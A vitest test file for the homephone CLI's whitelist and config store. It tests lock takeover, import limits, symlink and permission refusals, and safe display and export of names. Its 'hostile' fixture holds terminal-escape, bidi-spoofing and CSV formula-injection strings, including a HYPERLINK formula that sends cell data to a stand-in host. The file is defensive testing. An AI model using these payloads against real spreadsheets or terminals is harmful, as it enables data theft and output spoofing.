// The store keeps every write and cannot be hijacked (issue 14, section 3): a lock taken over
// while held fails the holder, imports are capped, links and loose folders are refused, names are
// shown and exported safely, permission errors say what and where.
import { chmodSync, chownSync, existsSync, lstatSync, mkdirSync, readFileSync, statSync, symlinkSync, truncateSync, utimesSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { execa, execaSync } from 'execa';
import { describe, expect, it } from 'vitest';
import { changeWhitelist } from '../../src/config/whitelist-file.js';
import { bin, homephone, readJson, tempDir, writeFile } from '../helpers/cli.js';

const isRoot = process.getuid?.() === 0;
const OTHER_UID = 4242;
/** Tests that run the binary several times: the timeout only catches a hang, on a busy machine too. */
const SEVERAL_RUNS = 120_000;
const contact = (Number: string, Person: string) => ({ Number, Person, OverrideBedtime: false, PrimaryContact: null });

describe('a lock taken over while held', () => {
  it('fails the holder with nothing written, so the writer that took it over keeps its entry', async () => {
    const dir = tempDir();
    const path = join(dir, 'whitelist.json');
    writeFileSync(path, JSON.stringify([contact('+15555550001', 'Ann')]), { mode: 0o600 });
    const attempt = changeWhitelist(path, (current) => {
      // What a long import does: Node is blocked, the lock is not refreshed and goes stale...
      const past = new Date(Date.now() - 60_000);
      utimesSync(`${path}.lock`, past, past);
      // ...and a parallel `whitelist add` takes it over, writes, says "Added" and exits 0.
      const add = execaSync('node', [bin, 'whitelist', 'add', '+15555550002', '--name', 'Bea'], {
        env: { HOMEPHONE_CONFIG_DIR: dir, CI: '1', NO_COLOR: '1' },
        reject: false,
      });
      expect(add.exitCode).toBe(0);
      expect(add.stdout).toContain('Added Bea');
      return { list: [...current, contact('+15555550003', 'Cid')], result: undefined };
    });
    await expect(attempt).rejects.toThrow(/another process took over the lock on .*whitelist\.json.*nothing was written/);
    expect(readJson(path)).toEqual([contact('+15555550001', 'Ann'), contact('+15555550002', 'Bea')]);
  }, SEVERAL_RUNS);

  it('a lock left behind by a crashed writer is still taken over once stale', async () => {
    const dir = tempDir();
    mkdirSync(join(dir, 'whitelist.json.lock'));
    const past = new Date(Date.now() - 60_000);
    utimesSync(join(dir, 'whitelist.json.lock'), past, past);
    const added = await homephone(['whitelist', 'add', '+15555550002', '--name', 'Bea'], { dir });
    expect(added.exitCode).toBe(0);
    expect(existsSync(join(dir, 'whitelist.json.lock'))).toBe(false);
  });
});

describe('whitelist import limits', () => {
  it('refuses a file over 32 MiB before parsing it, exit 2', async () => {
    const dir = tempDir();
    const big = join(tempDir(), 'big.json');
    writeFileSync(big, '[');
    truncateSync(big, 33 * 1024 * 1024);
    const result = await homephone(['whitelist', 'import', big], { dir });
    expect(result.exitCode).toBe(2);
    expect(result.stderr).toContain(`${big} is larger than 32 MiB, the most homephone reads`);
    expect(existsSync(join(dir, 'whitelist.json'))).toBe(false);
  });

  it('stops reading /dev/zero at the limit', async () => {
    const dir = tempDir();
    const result = await homephone(['whitelist', 'import', '--format', 'json', '/dev/zero'], { dir });
    expect(result.exitCode).toBe(2);
    expect(result.stderr).toContain('/dev/zero is larger than 32 MiB');
  });

  it('a whitelist of 300,000 entries can still be listed', async () => {
    const dir = tempDir();
    const many = Array.from({ length: 300_000 }, (_, i) => contact(`+1555${String(i).padStart(7, '0')}`, `Person ${i}`));
    writeFileSync(join(dir, 'whitelist.json'), JSON.stringify(many), { mode: 0o600 });
    const list = await homephone(['whitelist', 'list'], { dir });
    expect(list.stderr).toBe('');
    expect(list.exitCode).toBe(0);
    expect(list.stdout.trimEnd().split('\n')).toHaveLength(300_002);
  }, SEVERAL_RUNS);

  it('refuses a NUL in a name, naming the entry, and writes nothing', async () => {
    const dir = tempDir();
    const file = writeFile(tempDir(), 'in.json', JSON.stringify([contact('+15555550001', 'Ann'), contact('+15555550002', 'Bea\u0000rice')]));
    const result = await homephone(['whitelist', 'import', file], { dir });
    expect(result.exitCode).toBe(2);
    expect(result.stderr).toContain('entry 2: Person contains a NUL character');
    expect(existsSync(join(dir, 'whitelist.json'))).toBe(false);
  });
});

describe('names shown and exported safely', () => {
  const hostile = [
    contact('+15555550001', 'Eve\u001b[2J\u001b]0;pwned\u0007'),
    contact('+15555550002', 'Mallory \u202eelif.exe'),
    contact('+15555550003', '=HYPERLINK("http://x.example/?"&A1,"click")'),
    contact('+15555550004', '+SUM(1,2)'),
    contact('+15555550005', '-2+3'),
    contact('+15555550006', '@cmd'),
    contact('+15555550007', "'=already guarded"),
    { ...contact('+15555550008', 'Plain Name'), PrimaryContact: '=1+1' },
  ];

  it('whitelist list escapes control, escape and bidi characters', async () => {
    const dir = tempDir();
    const file = writeFile(tempDir(), 'in.json', JSON.stringify(hostile));
    expect((await homephone(['whitelist', 'import', file], { dir })).exitCode).toBe(0);
    const list = await homephone(['whitelist', 'list'], { dir });
    expect(list.exitCode).toBe(0);
    expect(list.stdout).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f\u202e]/);
    expect(list.stdout).toContain('Eve\\x1b[2J\\x1b]0;pwned\\x07');
    expect(list.stdout).toContain('Mallory \\u202eelif.exe');
    // --json keeps the data as it is (JSON escapes what it must).
    const json = await homephone(['--json', 'whitelist', 'list'], { dir });
    expect(JSON.parse(json.stdout)).toEqual(hostile);
  }, SEVERAL_RUNS);

  it('CSV export puts a quote before text cells a spreadsheet would run, never before E.164 numbers, and import undoes it', async () => {
    const dir = tempDir();
    const file = writeFile(tempDir(), 'in.json', JSON.stringify(hostile));
    await homephone(['whitelist', 'import', file], { dir });
    const out = join(tempDir(), 'out.csv');
    const exported = await homephone(['whitelist', 'export', '--format', 'csv', '--out', out], { dir });
    expect(exported.exitCode).toBe(0);
    const lines = readFileSync(out, 'utf8').trim().split('\n');
    expect(lines.slice(3)).toEqual([
      `+15555550003,"'=HYPERLINK(""http://x.example/?""&A1,""click"")",false,`,
      `+15555550004,"'+SUM(1,2)",false,`,
      `+15555550005,'-2+3,false,`,
      `+15555550006,'@cmd,false,`,
      `+15555550007,''=already guarded,false,`,
      `+15555550008,Plain Name,false,'=1+1`,
    ]);
    // Every cell that starts a line of the file is an E.164 number, left as it is.
    for (const line of lines.slice(1)) expect(line).toMatch(/^\+1555555000\d,/);
    const again = tempDir();
    expect((await homephone(['whitelist', 'import', out], { dir: again })).exitCode).toBe(0);
    expect(readJson(join(again, 'whitelist.json'))).toEqual(hostile);
  }, SEVERAL_RUNS);

  it('export --out into a missing folder exits 2 and creates nothing', async () => {
    const dir = tempDir();
    await homephone(['whitelist', 'add', '+15555550001', '--name', 'Ann'], { dir });
    const missing = join(tempDir(), 'no', 'such');
    const result = await homephone(['whitelist', 'export', '--out', join(missing, 'out.json')], { dir });
    expect(result.exitCode).toBe(2);
    expect(result.stderr).toContain(`the folder ${missing} does not exist`);
    expect(existsSync(join(missing, '..'))).toBe(false);
  }, SEVERAL_RUNS);
});

describe('links and owners', () => {
  it('never writes config.json through a symbolic link: refused, the target untouched', async () => {
    const dir = tempDir();
    const target = writeFile(tempDir(), 'victim.json', '{"keep": "me"}\n');
    if (isRoot) chownSync(target, OTHER_UID, OTHER_UID);
    symlinkSync(target, join(dir, 'config.json'));
    const result = await homephone(['config', 'set', 'household.timeZone', 'America/Toronto'], { dir });
    expect(result.exitCode).toBe(1);
    expect(result.stderr).toContain(`${join(dir, 'config.json')} is a symbolic link: homephone never reads or writes its files through one`);
    expect(readFileSync(target, 'utf8')).toBe('{"keep": "me"}\n');
    expect(lstatSync(join(dir, 'config.json')).isSymbolicLink()).toBe(true);
    if (isRoot) expect(statSync(target).uid).toBe(OTHER_UID);
  });

  it('never writes whitelist.json through a symbolic link', async () => {
    const dir = tempDir();
    const target = writeFile(tempDir(), 'elsewhere.json', '[]\n');
    symlinkSync(target, join(dir, 'whitelist.json'));
    const result = await homephone(['whitelist', 'add', '+15555550001', '--name', 'Ann'], { dir });
    expect(result.exitCode).toBe(1);
    expect(result.stderr).toContain('whitelist.json is a symbolic link: homephone never reads or writes its files through one');
    expect(readFileSync(target, 'utf8')).toBe('[]\n');
    expect(lstatSync(join(dir, 'whitelist.json')).isSymbolicLink()).toBe(true);
  });

  it.runIf(isRoot)('refuses a config file that belongs to another user, instead of keeping it theirs', async () => {
    const dir = tempDir();
    writeFileSync(join(dir, 'config.json'), '{}\n', { mode: 0o600 });
    chownSync(join(dir, 'config.json'), OTHER_UID, OTHER_UID);
    const result = await homephone(['config', 'set', 'household.timeZone', 'America/Toronto'], { dir });
    expect(result.exitCode).toBe(1);
    expect(result.stderr).toContain(`config.json belongs to user ${OTHER_UID}, not to you`);
    expect(readFileSync(join(dir, 'config.json'), 'utf8')).toBe('{}\n');
  });
});

describe('loose folders and files', () => {
  it.each([0o777, 0o770, 0o702])('a configuration folder with mode %o is refused by every command that reads it', async (mode) => {
    const dir = tempDir();
    chmodSync(dir, mode);
    for (const args of [['config', 'show'], ['whitelist', 'list'], ['whitelist', 'add', '+15555550001', '--name', 'Ann'], ['agent']]) {
      const result = await homephone(args, { dir });
      expect(result.exitCode, args.join(' ')).toBe(1);
      expect(result.stderr).toContain(`the configuration folder ${dir} can be written by`);
      expect(result.stderr).toContain(`hint: make it private: chmod 700 ${dir}`);
    }
    expect(existsSync(join(dir, 'whitelist.json'))).toBe(false);
  }, SEVERAL_RUNS);

  it('a folder only its owner can write is fine (0750); a config file others can write is refused', async () => {
    const dir = tempDir();
    chmodSync(dir, 0o750);
    expect((await homephone(['config', 'set', 'household.timeZone', 'America/Toronto'], { dir })).exitCode).toBe(0);
    chmodSync(join(dir, 'config.json'), 0o666);
    const result = await homephone(['config', 'show'], { dir });
    expect(result.exitCode).toBe(1);
    expect(result.stderr).toContain(`${join(dir, 'config.json')} can be written by its group and every user (mode 0666)`);
  }, SEVERAL_RUNS);
});

describe('permission errors', () => {
  it('say what was denied and where, never "unexpected error"', async () => {
    const dir = tempDir();
    writeFileSync(join(dir, 'config.json'), '{}\n', { mode: 0o600 });
    let result;
    if (isRoot) {
      // Root may read anything: run as an unprivileged user, who cannot look inside root's 0700 folder.
      result = await execa('node', [bin, 'config', 'show'], {
        env: { HOMEPHONE_CONFIG_DIR: dir, CI: '1', NO_COLOR: '1', HOME: '/tmp' },
        uid: 65534,
        gid: 65534,
        reject: false,
      });
    } else {
      chmodSync(join(dir, 'config.json'), 0o000);
      result = await homephone(['config', 'show'], { dir });
    }
    expect(result.exitCode).toBe(1);
    expect(result.stderr).not.toContain('unexpected error');
    expect(result.stderr).toMatch(new RegExp(`permission denied: could not (look at|open) ${join(dir, 'config.json').replace(/[/.]/g, '\\$&')} \\(EACCES\\)`));
  });
});
